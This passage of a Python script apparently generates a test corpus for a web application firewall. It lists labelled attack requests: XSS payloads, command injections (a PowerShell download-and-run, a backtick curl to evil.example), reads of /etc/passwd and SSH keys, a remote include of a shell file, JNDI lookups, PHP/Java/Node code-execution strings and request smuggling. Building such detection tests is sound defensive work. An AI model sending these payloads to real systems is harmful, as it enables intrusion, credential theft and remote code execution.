    ("form-action", "<form action=\"javascript:alert(1)\"><input type=submit>"),
    ("base-href", "<base href=\"javascript:alert(1)//\">"),
    ("link-import", "<link rel=import href=\"//evil.example/x.html\">"),
    ("event-no-tag", "x\" autofocus onfocus=\"alert(1)"),
    ("angular", "{{constructor.constructor('alert(1)')()}}"),
    ("data-uri-script", "<script src=\"data:text/javascript,alert(1)\"></script>"),
    ("img-srcset", "<img srcset=x onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("entity-encoded-tag", "&lt;script&gt;alert(1)&lt;/script&gt;"),
]
for n, v in xss2:
    get_arg("xss-" + n, "xss", v)
rce2 = [
    ("windows-type", "& type C:\\Windows\\win.ini"),
    ("powershell-iex", "powershell IEX(New-Object Net.WebClient).DownloadString('http://x')"),
    ("perl-e", "; perl -e 'print \"x\"'"),
    ("semicolon-uname", ";uname -a"),
    ("backtick-curl", "`curl http://evil.example`"),
    ("redirect-write", "; echo x > /var/www/html/x.php"),
    ("env-var", "$HOME/.ssh/id_rsa"),
    ("wildcard", "/???/??t /???/p??s??"),
]
for n, v in rce2:
    get_arg("rce-" + n, "rce", v, param="cmd", path="/run")
req("lfi-cookie-traversal", "lfi", "/", extra=[["Cookie", "template=../../../../etc/passwd"]])
req("lfi-header-traversal", "lfi", "/", extra=[["X-File", "../../etc/passwd"]])
req("lfi-win-system", "lfi", "/view?f=C:\\windows\\system32\\drivers\\etc\\hosts")
req("lfi-boot-ini", "lfi", "/view?f=../../boot.ini")
req("lfi-web-inf", "lfi", "/WEB-INF/web.xml")
req("lfi-ssh-key", "lfi", "/view?f=/root/.ssh/id_rsa")
req("rfi-php-include", "rfi", "/index.php?inc=http://203.0.113.5/shell.txt%00")
get_arg("php-short-tag", "php", "<?= `id` ?>", param="x", path="/index.php")
get_arg("php-assert", "php", "assert($_POST['x'])", param="x", path="/index.php")
get_arg("php-file-put", "php", "file_put_contents('s.php', $_GET['c'])", param="x", path="/index.php")
get_arg("php-phar", "php", "phar://uploads/x.jpg/shell", param="x", path="/index.php")
get_arg("java-el", "java", "${T(java.lang.Runtime).getRuntime().exec('id')}", param="x", path="/app")
get_arg("java-jndi-rmi", "java", "${jndi:rmi://evil.example:1099/obj}", param="x", path="/app")
get_arg("java-spring4shell", "java", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", param="x", path="/app")
get_arg("node-eval", "node", "eval(\"require('child_process').execSync('id')\")", param="x", path="/api/node")
get_arg("node-function", "node", "Function('return process')().mainModule.require('child_process')", param="x", path="/api/node")
req("proto-smuggle-te", "protocol", "/", "POST", body="0\r\n\r\nGET /admin HTTP/1.1\r\n", extra=[["Content-Type", "text/plain"], ["Transfer-Encoding", " chunked"]])
req("proto-header-crlf", "protocol", "/redirect?url=%0d%0aSet-Cookie:%20x=1")
req("proto-long-arg-name", "protocol", "/?" + "a" * 200 + "=1")
req("proto-many-args", "protocol", "/?" + "&".join("a%d=1" % i for i in range(260)))
req("proto-method-override", "protocol", "/", extra=[["X-HTTP-Method-Override", "PUT"]])
req("proto-connect", "protocol", "example.com:443", "CONNECT")
req("scanner-zgrab", "scanner", "/", replace={"User-Agent": "Mozilla/5.0 zgrab/0.x"})
req("scanner-gobuster", "scanner", "/", replace={"User-Agent": "gobuster/3.6"})
req("scanner-burp-collab", "scanner", "/?x=abc.burpcollaborator.net")


with open("tests/waf/corpus.jsonl", "w") as f:
    f.write("# generated by tests/waf/gen_corpus.py; one request per line\n")
    for r in out:
        f.write(json.dumps(r, ensure_ascii=False) + "\n")
print(len(out), "requests")
